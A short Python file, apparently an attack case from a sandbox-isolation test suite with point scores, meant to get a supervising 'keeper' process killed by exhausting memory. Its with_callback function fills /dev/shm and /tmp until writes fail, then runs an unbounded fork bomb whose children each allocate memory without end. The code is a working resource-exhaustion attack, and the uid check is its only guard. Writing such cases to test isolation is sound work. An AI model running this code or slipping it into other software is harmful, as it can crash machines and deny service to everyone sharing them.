"""Fill the memory by many small processes and files, so that the keeper is the largest victim.

alone: 0 points
glued: 20 points
"""

import os

assert os.getuid() >= 64000, "an attack runs in a container of ours only"

import time


def with_callback(f, x):
    try:
        with open("/proc/self/oom_score_adj", "w") as stream:
            stream.write("900")
    except OSError:
        pass
    for folder in ("/dev/shm", "/tmp"):
        try:
            with open(f"{folder}/filler", "wb", buffering=0) as stream:
                while stream.write(b"x" * (1 << 20)):
                    pass
        except OSError:
            pass
    try:
        while True:
            if not os.fork():
                held = []
                while True:
                    held.append(os.urandom(1 << 16))
                    time.sleep(0.0005)
    except OSError:
        pass
    time.sleep(60)
